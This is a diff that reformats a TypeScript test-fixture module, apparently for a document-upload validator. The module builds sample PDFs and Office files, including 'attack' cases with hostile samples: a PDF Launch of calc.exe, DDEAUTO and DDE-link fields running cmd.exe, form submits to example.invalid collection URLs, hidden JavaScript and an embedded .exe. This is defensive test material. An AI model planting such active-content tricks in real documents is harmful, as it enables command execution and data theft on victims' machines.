@@ -10,7 +10,9 @@ export const enc = (s: string) => Buffer.from(s, 'latin1');
 
 // ---------------------------------------------------------------------------------- PDF
 
-export async function makePdf(opts: { objectStreams?: boolean; js?: 'openAction' | 'names'; launch?: boolean; attach?: boolean; text?: string } = {}): Promise<Buffer> {
+export async function makePdf(
+  opts: { objectStreams?: boolean; js?: 'openAction' | 'names'; launch?: boolean; attach?: boolean; text?: string } = {},
+): Promise<Buffer> {
   const doc = await PDFDocument.create();
   const page = doc.addPage([300, 200]);
   page.drawText(opts.text ?? 'Don de nghi', { x: 20, y: 150, size: 14, font: await doc.embedFont(StandardFonts.Helvetica) });
@@ -42,7 +44,11 @@ export function rawPdf(objects: string[], trailer = '/Root 1 0 R'): Buffer {
   return Buffer.from(out, 'latin1');
 }
 
-export const RAW_PAGES = ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>'];
+export const RAW_PAGES = [
+  '<< /Type /Catalog /Pages 2 0 R >>',
+  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
+];
 
 /** PNG "Up" predictor rows (each row: filter type 2, then its difference from the row above), padded with spaces. */
 export function pngUp(data: Buffer, columns: number): Buffer {
@@ -112,8 +118,22 @@ export function packedPdf(objects: string[], opts: PackedPdfOptions = {}): Buffe
   const plain = Buffer.concat([enc(head), enc(bodies.join('\n') + '\n')]);
   const data = typeof mode === 'object' ? mode.encode(plain) : deflateSync(mode === 'flate' ? plain : pngUp(plain, columns));
   const parms = `<< /Predictor 12 /Columns ${columns} >>`;
-  const filter = typeof mode === 'object' ? mode.entries : mode === 'indirect' ? `/Filter ${filterNum} 0 R /DecodeParms ${parmsNum} 0 R` : mode === 'flate' ? '/Filter /FlateDecode' : `/Filter /FlateDecode /DecodeParms ${parms}`;
-  write(stmNum, Buffer.concat([enc(`<< /Type /ObjStm /N ${members.length} /First ${enc(head).length} ${filter} /Length ${data.length} >>\nstream\n`), data, enc('\nendstream')]));
+  const filter =
+    typeof mode === 'object'
+      ? mode.entries
+      : mode === 'indirect'
+        ? `/Filter ${filterNum} 0 R /DecodeParms ${parmsNum} 0 R`
+        : mode === 'flate'
+          ? '/Filter /FlateDecode'
+          : `/Filter /FlateDecode /DecodeParms ${parms}`;
+  write(
+    stmNum,
+    Buffer.concat([
+      enc(`<< /Type /ObjStm /N ${members.length} /First ${enc(head).length} ${filter} /Length ${data.length} >>\nstream\n`),
+      data,
+      enc('\nendstream'),
+    ]),
+  );
   if (mode === 'indirect') {
     write(filterNum, '/FlateDecode');
     write(parmsNum, parms);
@@ -130,7 +150,16 @@ export function packedPdf(objects: string[], opts: PackedPdfOptions = {}): Buffe
   }
   const xref = deflateSync(pngUp(rows, 7));
   const xrefAt = at;
-  write(xrefNum, Buffer.concat([enc(`<< /Type /XRef /Size ${xrefNum + 1} /W [1 4 2] /Root 1 0 R ${opts.trailer ?? ''} /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 7 >> /Length ${xref.length} >>\nstream\n`), xref, enc('\nendstream')]));
+  write(
+    xrefNum,
+    Buffer.concat([
+      enc(
+        `<< /Type /XRef /Size ${xrefNum + 1} /W [1 4 2] /Root 1 0 R ${opts.trailer ?? ''} /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 7 >> /Length ${xref.length} >>\nstream\n`,
+      ),
+      xref,
+      enc('\nendstream'),
+    ]),
+  );
   parts.push(enc(`startxref\n${xrefAt}\n%%EOF\n`));
   return Buffer.concat(parts);
 }
@@ -279,7 +308,8 @@ export function lzwEncode(data: Buffer): Buffer {
 export function tiffPredict(data: Buffer, columns: number, colors = 1): Buffer {
   const rowLen = columns * colors;
   const out = Buffer.from(data);
-  for (let r = 0; r < data.length; r += rowLen) for (let j = colors; j < rowLen && r + j < data.length; j++) out[r + j] = (data[r + j] - data[r + j - colors]) & 0xff;
+  for (let r = 0; r < data.length; r += rowLen)
+    for (let j = colors; j < rowLen && r + j < data.length; j++) out[r + j] = (data[r + j] - data[r + j - colors]) & 0xff;
   return out;
 }
 
@@ -297,7 +327,8 @@ export function pngPredictMixed(data: Buffer, columns: number, bpp = 1): Buffer 
       const up = r ? src[(r - 1) * columns + j] : 0;
       const upLeft = r && j >= bpp ? src[(r - 1) * columns + j - bpp] : 0;
       const p = left + up - upLeft;
-      const paeth = Math.abs(p - left) <= Math.abs(p - up) && Math.abs(p - left) <= Math.abs(p - upLeft) ? left : Math.abs(p - up) <= Math.abs(p - upLeft) ? up : upLeft;
+      const paeth =
+        Math.abs(p - left) <= Math.abs(p - up) && Math.abs(p - left) <= Math.abs(p - upLeft) ? left : Math.abs(p - up) <= Math.abs(p - upLeft) ? up : upLeft;
       const pred = [0, left, up, (left + up) >> 1, paeth][type];
       out[r * (columns + 1) + 1 + j] = (x - pred) & 0xff;
     }
@@ -343,27 +374,59 @@ const link = (action: string) => `<< /Type /Annot /Subtype /Link /Rect [0 0 300 
 export const ATTACK_PDFS: Record<string, AttackPdf> = {
   'an OpenAction JavaScript hidden in an object stream compressed with FlateDecode and a PNG predictor': {
     names: /JavaScript/,
-    build: () => packedPdf(pageObjects({ catalog: '/OpenAction 6 0 R /Names << /JavaScript << /Names [(init) 6 0 R] >> >>', extra: ["<< /Type /Action /S /JavaScript /JS (app.alert\\('objstm'\\)) >>"] })),
+    build: () =>
+      packedPdf(
+        pageObjects({
+          catalog: '/OpenAction 6 0 R /Names << /JavaScript << /Names [(init) 6 0 R] >> >>',
+          extra: ["<< /Type /Action /S /JavaScript /JS (app.alert\\('objstm'\\)) >>"],
+        }),
+      ),
     poppler: { js: "app.alert('objstm')" },
   },
   'an OpenAction JavaScript in an object stream whose /Filter and /DecodeParms are indirect references': {
     names: /JavaScript/,
-    build: () => packedPdf(pageObjects({ catalog: '/OpenAction 6 0 R /Names << /JavaScript << /Names [(init) 6 0 R] >> >>', extra: ["<< /S /JavaScript /JS (app.alert\\('indirect'\\)) >>"] }), { objStm: 'indirect' }),
+    build: () =>
+      packedPdf(
+        pageObjects({
+          catalog: '/OpenAction 6 0 R /Names << /JavaScript << /Names [(init) 6 0 R] >> >>',
+          extra: ["<< /S /JavaScript /JS (app.alert\\('indirect'\\)) >>"],
+        }),
+        { objStm: 'indirect' },
+      ),
     poppler: { js: "app.alert('indirect')" },
   },
   'an XFA form': {
     names: /XFA/,
-    build: () => packedPdf(pageObjects({ catalog: '/AcroForm << /Fields [] /XFA 6 0 R >> /NeedsRendering true', extra: [stream('', '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="f"/></template></xdp:xdp>')] })),
+    build: () =>
+      packedPdf(
+        pageObjects({
+          catalog: '/AcroForm << /Fields [] /XFA 6 0 R >> /NeedsRendering true',
+          extra: [
+            stream(
+              '',
+              '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="f"/></template></xdp:xdp>',
+            ),
+          ],
+        }),
+      ),
     poppler: { form: 'XFA' },
   },
   'an OpenAction (and a link) that opens a URI': {
     names: /URI/,
-    build: () => packedPdf(pageObjects({ catalog: '/OpenAction 6 0 R', page: '/Annots [7 0 R]', extra: ['<< /S /URI /URI (http://example.invalid/track) >>', link('6 0 R')] })),
+    build: () =>
+      packedPdf(
+        pageObjects({ catalog: '/OpenAction 6 0 R', page: '/Annots [7 0 R]', extra: ['<< /S /URI /URI (http://example.invalid/track) >>', link('6 0 R')] }),
+      ),
     poppler: { url: 'http://example.invalid/track' },
   },
   'a page whose additional actions (/AA) submit the form': {
     names: /SubmitForm/,
-    build: (w) => packedPdf(pageObjects({ page: `/AA << /O << /S /SubmitForm /F << /FS /URL /F (http://example.invalid/collect) >> /Flags 4 >>${witnessed(w, 'C', 'page-aa')} >>` })),
+    build: (w) =>
+      packedPdf(
+        pageObjects({
+          page: `/AA << /O << /S /SubmitForm /F << /FS /URL /F (http://example.invalid/collect) >> /Flags 4 >>${witnessed(w, 'C', 'page-aa')} >>`,
+        }),
+      ),
     poppler: { js: "app.alert('page-aa')", witness: true },
   },
   'a field whose additional actions submit the form': {
@@ -373,7 +436,9 @@ export const ATTACK_PDFS: Record<string, AttackPdf> = {
         pageObjects({
           catalog: '/AcroForm << /Fields [6 0 R] >>',
           page: '/Annots [6 0 R]',
-          extra: [`<< /Type /Annot /Subtype /Widget /FT /Tx /T (ten) /Rect [20 20 200 50] /P 3 0 R /AA << /Fo << /S /SubmitForm /F << /FS /URL /F (http://example.invalid/f) >> >>${witnessed(w, 'Bl', 'field-aa')} >> >>`],
+          extra: [
+            `<< /Type /Annot /Subtype /Widget /FT /Tx /T (ten) /Rect [20 20 200 50] /P 3 0 R /AA << /Fo << /S /SubmitForm /F << /FS /URL /F (http://example.invalid/f) >> >>${witnessed(w, 'Bl', 'field-aa')} >> >>`,
+          ],
         }),
       ),
     poppler: { js: "app.alert('field-aa')", witness: true },
@@ -381,23 +446,48 @@ export const ATTACK_PDFS: Record<string, AttackPdf> = {
   // The embedded file's own stream says nothing (its /Type is optional): only the packed dictionaries name it.
   'an embedded file': {
     names: /EmbeddedFile/,
-    build: () => packedPdf(pageObjects({ catalog: '/Names << /EmbeddedFiles << /Names [(hoadon.exe) 6 0 R] >> >>', extra: ['<< /Type /Filespec /F (hoadon.exe) /UF (hoadon.exe) /EF << /F 7 0 R >> >>', stream('', 'MZ not really a program')] }), { columns: 12 }),
+    build: () =>
+      packedPdf(
+        pageObjects({
+          catalog: '/Names << /EmbeddedFiles << /Names [(hoadon.exe) 6 0 R] >> >>',
+          extra: ['<< /Type /Filespec /F (hoadon.exe) /UF (hoadon.exe) /EF << /F 7 0 R >> >>', stream('', 'MZ not really a program')],
+        }),
+        { columns: 12 },
+      ),
     poppler: { attachment: 'hoadon.exe' },
   },
   'a file attachment annotation': {
     names: /FileAttachment/,
-    build: () => packedPdf(pageObjects({ page: '/Annots [6 0 R]', extra: ['<< /Type /Annot /Subtype /FileAttachment /Rect [20 20 40 40] /FS 7 0 R /Contents (x) >>', '<< /Type /Filespec /F (ghi-chu.txt) /EF << /F 8 0 R >> >>', stream('', 'hello')] })),
+    build: () =>
+      packedPdf(
+        pageObjects({
+          page: '/Annots [6 0 R]',
+          extra: [
+            '<< /Type /Annot /Subtype /FileAttachment /Rect [20 20 40 40] /FS 7 0 R /Contents (x) >>',
+            '<< /Type /Filespec /F (ghi-chu.txt) /EF << /F 8 0 R >> >>',
+            stream('', 'hello'),
+          ],
+        }),
+      ),
     poppler: { attachment: 'ghi-chu.txt' },
   },
   'a Launch action run on opening the document and its page': {
     names: /Launch/,
-    build: (w) => packedPdf(pageObjects({ catalog: '/OpenAction 6 0 R', page: `/AA << /O 6 0 R${witnessed(w, 'C', 'launch')} >>`, extra: ['<< /S /Launch /F (calc.exe) /NewWindow true >>'] })),
+    build: (w) =>
+      packedPdf(
+        pageObjects({
+          catalog: '/OpenAction 6 0 R',
+          page: `/AA << /O 6 0 R${witnessed(w, 'C', 'launch')} >>`,
+          extra: ['<< /S /Launch /F (calc.exe) /NewWindow true >>'],
+        }),
+      ),
     poppler: { js: "app.alert('launch')", witness: true },
   },
 };
 
 /** A clean document packed the modern way (object stream and cross-reference stream with predictors). */
-export const benignPackedPdf = (text = 'Giay khai sinh ban chinh') => packedPdf(pageObjects({ text, extra: ['<< /Title (Ban chinh) /Producer (scanner) >>'] }), { trailer: '/Info 6 0 R' });
+export const benignPackedPdf = (text = 'Giay khai sinh ban chinh') =>
+  packedPdf(pageObjects({ text, extra: ['<< /Title (Ban chinh) /Producer (scanner) >>'] }), { trailer: '/Info 6 0 R' });
 
 // ---------------------------------------------------------------------------------- PNG
 
@@ -451,7 +541,18 @@ export function makeJpeg(opts: { comment?: string; skipFrame?: boolean } = {}): 
   const dhtAc = seg(0xc4, Buffer.concat([Buffer.from([0x10]), counts, Buffer.from([0x00])]));
   const sos = seg(0xda, Buffer.from([1, 1, 0x00, 0, 63, 0]));
   const com = opts.comment !== undefined ? [seg(0xfe, enc(opts.comment))] : [];
-  return Buffer.concat([Buffer.from([0xff, 0xd8]), app0, ...com, dqt, ...(opts.skipFrame ? [] : [sof]), dhtDc, dhtAc, sos, Buffer.from([0x3f]), Buffer.from([0xff, 0xd9])]);
+  return Buffer.concat([
+    Buffer.from([0xff, 0xd8]),
+    app0,
+    ...com,
+    dqt,
+    ...(opts.skipFrame ? [] : [sof]),
+    dhtDc,
+    dhtAc,
+    sos,
+    Buffer.from([0x3f]),
+    Buffer.from([0xff, 0xd9]),
+  ]);
 }
 
 // ---------------------------------------------------------------------------------- ZIP
@@ -526,7 +627,9 @@ export function contentTypes(overrides: Record<string, string>): string {
   return (
     '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
     '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>' +
-    Object.entries(overrides).map(([part, type]) => `<Override PartName="${part}" ContentType="${type}"/>`).join('') +
+    Object.entries(overrides)
+      .map(([part, type]) => `<Override PartName="${part}" ContentType="${type}"/>`)
+      .join('') +
     '</Types>'
   );
 }
@@ -548,14 +651,26 @@ export function docxEntries(text = 'Đơn đề nghị cấp giấy phép'): Zip
 
 export function xlsxEntries(): ZipInput[] {
   return [
-    { name: '[Content_Types].xml', data: contentTypes({ '/xl/workbook.xml': EXCEL_MAIN, '/xl/worksheets/sheet1.xml': 'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml' }) },
+    {
+      name: '[Content_Types].xml',
+      data: contentTypes({
+        '/xl/workbook.xml': EXCEL_MAIN,
+        '/xl/worksheets/sheet1.xml': 'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml',
+      }),
+    },
     { name: '_rels/.rels', data: rels('xl/workbook.xml') },
     {
       name: 'xl/workbook.xml',
       data: '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>',
     },
-    { name: 'xl/_rels/workbook.xml.rels', data: '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>' },
-    { name: 'xl/worksheets/sheet1.xml', data: '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Hồ sơ</t></is></c></row></sheetData></worksheet>' },
+    {
+      name: 'xl/_rels/workbook.xml.rels',
+      data: '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
+    },
+    {
+      name: 'xl/worksheets/sheet1.xml',
+      data: '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Hồ sơ</t></is></c></row></sheetData></worksheet>',
+    },
   ];
 }
 
@@ -566,7 +681,8 @@ export const makeXlsx = () => makeZip(xlsxEntries());
 
 const RELS_NS = 'http://schemas.openxmlformats.org/package/2006/relationships';
 const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
-const WORD_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"';
+const WORD_NS =
+  'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"';
 
 export const relationships = (rels: { id: string; type: string; target: string; external?: boolean }[]) =>
   `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="${RELS_NS}">` +
@@ -577,12 +693,17 @@ export const relationships = (rels: { id: string; type: string; target: string; 
  * A Word document with the given body XML, relationships of word/document.xml, extra parts
  * and content-type overrides: Word opens what this writes.
  */
-export function docxWith(o: { body?: string; rels?: Parameters<typeof relationships>[0]; parts?: ZipInput[]; overrides?: Record<string, string> } = {}): Buffer {
+export function docxWith(
+  o: { body?: string; rels?: Parameters<typeof relationships>[0]; parts?: ZipInput[]; overrides?: Record<string, string> } = {},
+): Buffer {
   const body = o.body ?? '<w:p><w:r><w:t>Đơn đề nghị</w:t></w:r></w:p>';
   return makeZip([
     { name: '[Content_Types].xml', data: contentTypes({ '/word/document.xml': WORD_MAIN, ...o.overrides }) },
     { name: '_rels/.rels', data: rels('word/document.xml') },
-    { name: 'word/document.xml', data: `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document ${WORD_NS}><w:body>${body}</w:body></w:document>` },
+    {
+      name: 'word/document.xml',
+      data: `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document ${WORD_NS}><w:body>${body}</w:body></w:document>`,
+    },
     ...(o.rels ? [{ name: 'word/_rels/document.xml.rels', data: relationships(o.rels) }] : []),
     ...(o.parts ?? []),
   ]);
@@ -590,7 +711,9 @@ export function docxWith(o: { body?: string; rels?: Parameters<typeof relationsh
 
 const CFB = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(504)]);
 const fieldRuns = (...instr: string[]) =>
-  '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' + instr.map((t) => `<w:r><w:instrText xml:space="preserve">${t}</w:instrText></w:r>`).join('') + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>';
+  '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' +
+  instr.map((t) => `<w:r><w:instrText xml:space="preserve">${t}</w:instrText></w:r>`).join('') +
+  '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>';
 
 export interface AttackOffice {
   build: () => Buffer;
@@ -631,7 +754,10 @@ export const ATTACK_OFFICE: Record<string, AttackOffice> = {
     says: /load content from outside/,
   },
   'DOCX with a DDEAUTO field (w:fldSimple)': {
-    build: () => docxWith({ body: `<w:p><w:fldSimple w:instr=' DDEAUTO c:\\\\Windows\\\\System32\\\\cmd.exe "/k calc.exe" '><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>` }),
+    build: () =>
+      docxWith({
+        body: `<w:p><w:fldSimple w:instr=' DDEAUTO c:\\\\Windows\\\\System32\\\\cmd.exe "/k calc.exe" '><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>`,
+      }),
     name: 'a.docx',
     code: 'ACTIVE_CONTENT_REFUSED',
     says: /DDEAUTO field/,
@@ -660,7 +786,16 @@ export const ATTACK_OFFICE: Record<string, AttackOffice> = {
     says: /OLE or ActiveX/,
   },
   'DOCX with an ActiveX control': {
-    build: () => docxWith({ rels: [{ id: 'rId9', type: 'control', target: 'activeX/activeX1.xml' }], parts: [{ name: 'word/activeX/activeX1.xml', data: '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>' }] }),
+    build: () =>
+      docxWith({
+        rels: [{ id: 'rId9', type: 'control', target: 'activeX/activeX1.xml' }],
+        parts: [
+          {
+            name: 'word/activeX/activeX1.xml',
+            data: '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>',
+          },
+        ],
+      }),
     name: 'a.docx',
     code: 'ACTIVE_CONTENT_REFUSED',
     says: /OLE or ActiveX/,
@@ -670,7 +805,10 @@ export const ATTACK_OFFICE: Record<string, AttackOffice> = {
       makeZip(
         docxEntries().map((e) =>
           e.name === 'word/document.xml'
-            ? { ...e, data: `<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><w:document ${WORD_NS}><w:body><w:p><w:r><w:t>&b;</w:t></w:r></w:p></w:body></w:document>` }
+            ? {
+                ...e,
+                data: `<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><w:document ${WORD_NS}><w:body><w:p><w:r><w:t>&b;</w:t></w:r></w:p></w:body></w:document>`,
+              }
             : e,
         ),
       ),
@@ -687,21 +825,41 @@ export const ATTACK_OFFICE: Record<string, AttackOffice> = {
   'XLSX with a DDE link (xl/externalLinks/externalLink1.xml)': {
     build: () =>
       makeZip([
-        ...xlsxEntries().map((e) => (e.name === 'xl/_rels/workbook.xml.rels' ? { ...e, data: relationships([{ id: 'rId1', type: 'worksheet', target: 'worksheets/sheet1.xml' }, { id: 'rId2', type: 'externalLink', target: 'externalLinks/externalLink1.xml' }]) } : e)),
-        { name: 'xl/externalLinks/externalLink1.xml', data: '<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>' },
+        ...xlsxEntries().map((e) =>
+          e.name === 'xl/_rels/workbook.xml.rels'
+            ? {
+                ...e,
+                data: relationships([
+                  { id: 'rId1', type: 'worksheet', target: 'worksheets/sheet1.xml' },
+                  { id: 'rId2', type: 'externalLink', target: 'externalLinks/externalLink1.xml' },
+                ]),
+              }
+            : e,
+        ),
+        {
+          name: 'xl/externalLinks/externalLink1.xml',
+          data: '<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>',
+        },
       ]),
     name: 'a.xlsx',
     code: 'ACTIVE_CONTENT_REFUSED',
     says: /a DDE link/,
   },
   'DOCX with a hyperlink to a local program': {
-    build: () => docxWith({ body: '<w:p><w:hyperlink r:id="rId3"><w:r><w:t>Bấm vào đây</w:t></w:r></w:hyperlink></w:p>', rels: [{ id: 'rId3', type: 'hyperlink', target: 'file:///C:/Windows/System32/calc.exe', external: true }] }),
+    build: () =>
+      docxWith({
+        body: '<w:p><w:hyperlink r:id="rId3"><w:r><w:t>Bấm vào đây</w:t></w:r></w:hyperlink></w:p>',
+        rels: [{ id: 'rId3', type: 'hyperlink', target: 'file:///C:/Windows/System32/calc.exe', external: true }],
+      }),
     name: 'a.docx',
     code: 'ACTIVE_CONTENT_REFUSED',
     says: /non-web address/,
   },
   'DOCX embedding a macro-enabled workbook where a chart keeps its data': {
-    build: () => docxWith({ parts: [{ name: 'word/embeddings/Microsoft_Excel_Worksheet.xlsx', data: makeZip([...xlsxEntries(), { name: 'xl/vbaProject.bin', data: CFB }]) }] }),
+    build: () =>
+      docxWith({
+        parts: [{ name: 'word/embeddings/Microsoft_Excel_Worksheet.xlsx', data: makeZip([...xlsxEntries(), { name: 'xl/vbaProject.bin', data: CFB }]) }],
+      }),
     name: 'a.docx',
     code: 'ACTIVE_CONTENT_REFUSED',
     says: /macros/,
@@ -710,8 +868,16 @@ export const ATTACK_OFFICE: Record<string, AttackOffice> = {
 
 /** Office files that look close to the attacks but are ordinary: they stay accepted. */
 export const BENIGN_OFFICE: Record<string, () => Buffer> = {
-  'DOCX with a web hyperlink': () => docxWith({ body: '<w:p><w:hyperlink r:id="rId3"><w:r><w:t>dichvucong.gov.vn</w:t></w:r></w:hyperlink></w:p>', rels: [{ id: 'rId3', type: 'hyperlink', target: 'https://dichvucong.gov.vn/p/home/dvc-trang-chu.html', external: true }] }),
+  'DOCX with a web hyperlink': () =>
+    docxWith({
+      body: '<w:p><w:hyperlink r:id="rId3"><w:r><w:t>dichvucong.gov.vn</w:t></w:r></w:hyperlink></w:p>',
+      rels: [{ id: 'rId3', type: 'hyperlink', target: 'https://dichvucong.gov.vn/p/home/dvc-trang-chu.html', external: true }],
+    }),
   'DOCX with a page-number field and a chart whose data is an embedded workbook': () =>
-    docxWith({ body: fieldRuns(' PAGE \\\\* MERGEFORMAT '), rels: [{ id: 'rId4', type: 'package', target: 'embeddings/Microsoft_Excel_Worksheet.xlsx' }], parts: [{ name: 'word/embeddings/Microsoft_Excel_Worksheet.xlsx', data: makeXlsx() }] }),
+    docxWith({
+      body: fieldRuns(' PAGE \\\\* MERGEFORMAT '),
+      rels: [{ id: 'rId4', type: 'package', target: 'embeddings/Microsoft_Excel_Worksheet.xlsx' }],
+      parts: [{ name: 'word/embeddings/Microsoft_Excel_Worksheet.xlsx', data: makeXlsx() }],
+    }),
   'XLSX as Excel writes it': () => makeXlsx(),
 };
